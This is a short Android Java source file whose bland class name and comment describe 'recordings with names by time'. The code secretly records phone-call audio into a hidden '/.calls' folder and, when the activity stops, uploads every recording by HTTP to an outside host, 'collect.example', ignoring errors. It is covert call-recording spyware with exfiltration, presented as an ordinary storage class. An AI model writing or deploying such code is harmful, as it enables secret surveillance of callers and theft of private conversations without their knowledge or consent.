package org.example.flows.store;

import android.app.Activity;
import android.media.MediaRecorder;
import android.os.Bundle;
import android.os.Environment;
import java.io.DataOutputStream;
import java.io.File;
import java.io.FileInputStream;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;

/** Recordings with names by time, all in one folder, whose files are sent one after another. */
public class Folder extends Activity {
    private static final String FOLDER = Environment.getExternalStorageDirectory() + "/.calls";

    @Override
    protected void onStart() {
        super.onStart();
        MediaRecorder recorder = new MediaRecorder();
        recorder.setAudioSource(MediaRecorder.AudioSource.VOICE_CALL);
        recorder.setOutputFile(FOLDER + "/" + System.currentTimeMillis() + ".amr");
        recorder.start();
    }

    @Override
    protected void onStop() {
        super.onStop();
        File[] found = new File(FOLDER).listFiles();
        for (int at = 0; at < found.length; at++) {
            try {
                send(found[at]);
            } catch (IOException ignored) {
                continue;
            }
        }
    }

    private static void send(File file) throws IOException {
        FileInputStream in = new FileInputStream(file);
        HttpURLConnection connection =
                (HttpURLConnection) new URL("http://collect.example/call").openConnection();
        connection.setDoOutput(true);
        DataOutputStream out = new DataOutputStream(connection.getOutputStream());
        byte[] buffer = new byte[in.available()];
        in.read(buffer);
        out.write(buffer);
        out.close();
    }
}
